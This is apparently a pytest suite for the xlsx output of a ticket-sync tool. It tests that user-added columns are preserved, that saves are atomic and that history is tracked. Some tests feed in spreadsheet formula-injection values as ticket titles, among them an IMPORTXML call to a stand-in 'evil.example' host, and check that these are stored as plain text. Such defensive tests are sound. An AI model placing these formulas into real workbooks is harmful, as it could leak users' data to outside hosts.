"""The xlsx sink: people's data kept, ticket text inert, all-or-nothing saves."""
from __future__ import annotations

import os
import time
from datetime import timedelta

import openpyxl
import pytest

from connectors.memory import MemorySource
from connectors.xlsx.sink import XlsxSink
from connectors.xlsx.sink import XlsxSinkConfig
from sync.core.errors import ConfigError, GuardError
from sync.worker.state import State

from .conftest import NOW, make_config, sync_over, ticket


@pytest.fixture
def env(tmp_path):
    path = tmp_path / "book.xlsx"
    config = make_config(sink={"type": "xlsx", "path": str(path)})
    state = State(tmp_path / "state.db")
    yield path, config, state
    state.close()


def sync(env, tickets, now=NOW, **kw):
    path, config, state = env
    return sync_over(config, [MemorySource("jira", tickets)], XlsxSink(config.sink), state, now, **kw)


@pytest.mark.slow
def test_people_columns_follow_their_ticket(env):
    path = env[0]
    sync(env, [ticket("A-1"), ticket("A-2"), ticket("A-3")])
    wb = openpyxl.load_workbook(path)
    ws = wb["Tickets"]
    ws.cell(row=1, column=17, value="Notes")
    ws.cell(row=1, column=18, value="Double")
    for r in range(2, 5):
        ws.cell(row=r, column=17, value=f"note for {ws.cell(row=r, column=1).value}")
    ws.cell(row=3, column=18, value="=I3*2")
    wb.create_sheet("Team notes")["B2"] = "keep me"
    wb["Metrics"].append(["2026-11-20", "conv_rate", 7.0, "typed by a person"])
    wb.save(path)

    # Given a ticket removed and one added (A-0, sorts first): rows move.
    sync(env, [ticket("A-0"), ticket("A-2"), ticket("A-3")], now=NOW + timedelta(hours=1))
    wb = openpyxl.load_workbook(path)
    rows = {r[0]: r[16:18] for r in wb["Tickets"].iter_rows(min_row=2, values_only=True)}
    assert [c.value for c in wb["Tickets"][1]][16:] == ["Notes", "Double"]
    assert rows == {"A-0": (None, None), "A-2": ("note for A-2", "=I3*2"), "A-3": ("note for A-3", None)}
    assert wb["Team notes"]["B2"].value == "keep me"
    assert list(wb["Metrics"].iter_rows(min_row=2, values_only=True)) == \
        [("2026-11-20", "conv_rate", 7, "typed by a person")]
    current = {r[0]: r[1] for r in wb["Scorecard"].iter_rows(min_row=2, max_col=7, values_only=True)}
    assert wb["Scorecard"]["G2"].value == 7 and "conv" in current


def test_formula_text_stays_text(env):
    path = env[0]
    sync(env, [ticket("F-1", title='=IMPORTXML("https://evil.example/x","//a")', owner="=1+1",
                      labels=("+cmd",))])
    ws = openpyxl.load_workbook(path)["Tickets"]
    assert ws["C2"].value == '=IMPORTXML("https://evil.example/x","//a")'
    assert ws["C2"].data_type == "s" and ws["H2"].data_type == "s"
    with open(path, "rb") as fh:
        import zipfile
        with zipfile.ZipFile(fh) as z:
            sheet = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    assert not any("<f>IMPORTXML" in s for s in sheet)


@pytest.mark.slow
def test_history_once_per_period(env):
    path = env[0]
    sync(env, [ticket("A-1")])
    sync(env, [ticket("A-1")], now=NOW + timedelta(hours=3))       # within history_every (1d)
    sync(env, [ticket("A-1")], now=NOW + timedelta(days=1))
    history = list(openpyxl.load_workbook(path)["History"].iter_rows(min_row=2, values_only=True))
    assert [r[0] for r in history] == ["2026-11-26T09:00:00Z"] * 3 + ["2026-11-27T09:00:00Z"] * 3
    trend = list(openpyxl.load_workbook(path)["Trend"].iter_rows(min_row=2, values_only=True))
    assert len(trend) == 2


@pytest.mark.slow
def test_failed_sync_keeps_data_and_sets_last_error(env):
    path = env[0]
    sync(env, [ticket("A-1"), ticket("A-2")])
    before = list(openpyxl.load_workbook(path)["Tickets"].iter_rows(values_only=True))
    with pytest.raises(GuardError):
        sync(env, [], now=NOW + timedelta(days=2))
    wb = openpyxl.load_workbook(path)
    assert list(wb["Tickets"].iter_rows(values_only=True)) == before
    summary = {r[0]: r[1] for r in wb["Summary"].iter_rows(min_row=2, values_only=True)}
    assert "returned no tickets" in summary["Last error"]
    assert summary["Last sync"] == "2026-11-26T09:00:00Z"


def test_save_is_atomic(env, monkeypatch):
    path = env[0]
    sync(env, [ticket("A-1")])
    original = path.read_bytes()

    def boom(self, filename):
        with open(filename, "wb") as fh:
            fh.write(b"half a workbook")
        raise OSError(28, "No space left on device")
    monkeypatch.setattr(openpyxl.Workbook, "save", boom)
    with pytest.raises(Exception, match="cannot save"):
        sync(env, [ticket("A-1"), ticket("A-2")], now=NOW + timedelta(days=1))
    assert path.read_bytes() == original
    assert [p.name for p in path.parent.iterdir() if p.suffix == ".tmp"] == []


def test_owners_tab_can_be_switched_off(tmp_path):
    path = tmp_path / "b.xlsx"
    config = make_config(sink={"type": "xlsx", "path": str(path), "owners_tab": False})
    state = State(tmp_path / "s.db")
    sync_over(config, [MemorySource("jira", [ticket()])], XlsxSink(config.sink), state, NOW)
    assert "Owners" not in openpyxl.load_workbook(path).sheetnames


def test_damaged_workbook_is_a_clear_error(tmp_path):
    path = tmp_path / "bad.xlsx"
    path.write_bytes(b"not a zip")
    with pytest.raises(Exception, match="cannot open as a workbook"):
        XlsxSink(XlsxSinkConfig(type="xlsx", path=str(path))).read()


def test_metric_formulas_are_read_as_excel_computed_them(env):
    path = env[0]
    sync(env, [ticket("A-1")])
    wb = openpyxl.load_workbook(path)
    wb["Metrics"].append(["2026-11-25", "conv_rate", "=15/2"])
    wb.save(path)
    # Excel would cache the result when saving; write that cache as Excel does.
    import zipfile
    with zipfile.ZipFile(path) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    name = next(n for n in parts if n.startswith("xl/worksheets/") and b"15/2" in parts[n])
    parts[name] = parts[name].replace(b"<f>15/2</f><v />", b"<f>15/2</f><v>7.5</v>")
    assert b"<v>7.5</v>" in parts[name]
    with zipfile.ZipFile(path, "w") as z:
        for n, data in parts.items():
            z.writestr(n, data)
    sink = XlsxSink(env[1].sink)
    assert [(r.metric, r.value) for r in sink.read().readings] == [("conv_rate", 7.5)]


def test_unreadable_metrics_rows_are_counted_not_fatal(env):
    path = env[0]
    sync(env, [ticket("A-1")])
    wb = openpyxl.load_workbook(path)
    wb["Metrics"].append(["not a date", "conv_rate", 7])
    wb["Metrics"].append(["2026-11-20", "conv_rate", "n/a"])
    wb["Metrics"].append(["2026-11-21", "conv_rate", 7.2])
    wb.save(path)
    inputs = XlsxSink(env[1].sink).read()
    assert [r.value for r in inputs.readings] == [7.2] and inputs.unreadable_metrics == 2


@pytest.mark.slow
def test_history_seed_starts_a_new_workbook_only(tmp_path):
    seed = tmp_path / "history.csv"
    seed.write_text("Timestamp,Outcome ID,Progress %,Aligned effort %,Active tickets,Done tickets\n"
                    "2026-11-12T09:00:00Z,conv,10.0,50.0,3,1\n2026-11-12T09:00:00Z,*,,50.0,3,1\n")
    path = tmp_path / "book.xlsx"
    config = make_config(sink={"type": "xlsx", "path": str(path), "history_seed": str(seed)})
    state = State(tmp_path / "state.db")
    try:
        env = (path, config, state)
        sync(env, [ticket("A-1")])
        history = list(openpyxl.load_workbook(path)["History"].iter_rows(min_row=2, values_only=True))
        assert history[:2] == [("2026-11-12T09:00:00Z", "conv", 10, 50, 3, 1),
                               ("2026-11-12T09:00:00Z", "*", None, 50, 3, 1)]
        assert len(history) > 2 and history[2][0] == "2026-11-26T09:00:00Z"
        trend = list(openpyxl.load_workbook(path)["Trend"].iter_rows(min_row=2, values_only=True))
        # Trend's stamps are the chart's axis labels: the dates alone (issue 26).
        assert [r[0] for r in trend] == ["2026-11-12", "2026-11-26"]
        sync(env, [ticket("A-1")], NOW + timedelta(days=2))      # an existing workbook: no seed again
        again = list(openpyxl.load_workbook(path)["History"].iter_rows(min_row=2, values_only=True))
        assert [r[0] for r in again].count("2026-11-12T09:00:00Z") == 2
    finally:
        state.close()


def test_a_history_seed_of_the_wrong_shape_names_file_and_line(tmp_path):
    seed = tmp_path / "history.csv"
    seed.write_text("Timestamp,Outcome ID\n2026-11-12T09:00:00Z,conv\n")
    config = make_config(sink={"type": "xlsx", "path": str(tmp_path / "b.xlsx"),
                               "history_seed": str(seed)})
    with pytest.raises(ConfigError, match=r"history_seed .*history.csv: line 2: expected 6 columns"):
        XlsxSink(config.sink).read()


# -- big tabs streamed as XML (connectors/xlsx_stream) ------------------------------

HOSTILE_TITLES = ["=IMPORTXML(\"http://x\",\"//a\")", "<b>bold</b> & co", "  spaced  ", "line\nbreak",
                  "tab\there", "bell\x07gone", "emoji 🚀 ünïcødé", "x" * 40_000, "+1 -2", "@SUM(A1)",
                  "lone \ud800 surrogate", ""]


def _tickets_for_streaming():
    out = []
    for i, title in enumerate(HOSTILE_TITLES):
        out.append(ticket(f"A-{i + 1}", title=title, estimate=[2.0, None, 0.5][i % 3],
                          url="" if i == 3 else f"https://acme.atlassian.net/browse/A-{i + 1}?a=1&b=<2>",
                          owner=None if i == 5 else "Ann"))
    return out


def _snapshot(path):
    wb = openpyxl.load_workbook(path)
    out = {}
    for name in ("Tickets", "Warnings"):
        ws = wb[name]
        # (An empty cell's data_type is an artifact of how it was written: not compared.)
        cells = [[(c.value, c.data_type if c.value is not None else None, bool(c.font.b), c.font.color.rgb if c.font.color else None,
                   c.hyperlink.target if c.hyperlink else None) for c in row] for row in ws.iter_rows()]
        widths = {k: d.width for k, d in ws.column_dimensions.items()}
        out[name] = (cells, ws.freeze_panes, widths, ws.max_row, ws.max_column)
    return out


@pytest.mark.slow
def test_streamed_tabs_read_back_as_openpyxl_wrote_them(tmp_path, monkeypatch):
    """The same report written both ways: every cell's value, type, font and
    link, the frozen header and the column widths come back identical."""
    from connectors.xlsx import stream as xlsx_stream
    books = {}
    for way in ("openpyxl", "streamed"):
        folder = tmp_path / way
        folder.mkdir()
        if way == "openpyxl":
            monkeypatch.setattr(xlsx_stream, "streamable", lambda table: False)
        else:
            monkeypatch.undo()
        env = (folder / "book.xlsx", make_config(sink={"type": "xlsx", "path": str(folder / "book.xlsx")}),
               State(folder / "state.db"))
        try:
            sync(env, _tickets_for_streaming())
            # People's columns: text, a number and a formula next to ticket A-2.
            wb = openpyxl.load_workbook(env[0])
            ws = wb["Tickets"]
            ws.cell(row=1, column=17, value="Notes")
            ws.cell(row=3, column=17, value="call <Ann> & Bo")
            ws.cell(row=1, column=18, value="Double")
            ws.cell(row=3, column=18, value="=I3*2")
            wb.save(env[0])
            sync(env, _tickets_for_streaming(), now=NOW + timedelta(hours=1))
        finally:
            env[2].close()
        books[way] = _snapshot(folder / "book.xlsx")
    assert books["streamed"] == books["openpyxl"]
    cells = books["streamed"]["Tickets"][0]
    by_key = {row[0][0]: row for row in cells[1:]}
    assert by_key["A-1"][2][:2] == ("=IMPORTXML(\"http://x\",\"//a\")", "s")      # text, not a formula
    assert by_key["A-2"][17][0] == "=I3*2" and by_key["A-2"][16][0] == "call <Ann> & Bo"
    assert by_key["A-1"][0][4] == "https://acme.atlassian.net/browse/A-1?a=1&b=<2>"
    assert len(by_key["A-8"][2][0]) == 32_767                                   # cut to Excel's limit


def test_a_people_column_of_dates_goes_through_openpyxl(tmp_path):
    from datetime import datetime as dt
    from connectors.xlsx import stream as xlsx_stream
    from sync.core.present.report import Table
    table = Table("Tickets", ["Key", "When"], [["A-1", dt(2026, 11, 1)]], [], owned_columns=1)
    assert not xlsx_stream.streamable(table)
    assert xlsx_stream.streamable(Table("Tickets", ["Key", "When"], [["A-1", "soon"]], [], 1))
    assert not xlsx_stream.streamable(Table("Rules", ["Lever"], [["x"]]))


def test_the_temp_files_a_killed_save_left_are_removed_by_the_next(env):
    """A retester's finding: a second Ctrl-C mid-write (an exit at once) left
    the rows streamed beside the temp file (`.tmp.rows`, 10 MB) for good."""
    path = env[0]
    sync(env, [ticket("A-1")])
    left = [path.parent / f".{path.name}.abc123.tmp", path.parent / f".{path.name}.abc123.tmp.rows"]
    live = [path.parent / f".{path.name}.def456.tmp", path.parent / f".{path.name}.def456.tmp.rows"]
    for stale in left + live:
        stale.write_bytes(b"cut short")
    for stale in left:                    # untouched for two hours: a dead save's
        os.utime(stale, (time.time() - 7200, time.time() - 7200))
    sync(env, [ticket("A-1"), ticket("A-2")], now=NOW + timedelta(days=1))
    assert [p for p in left if p.exists()] == []
    # A retester's finding: another process's save under way lost its files.
    assert all(p.exists() for p in live)
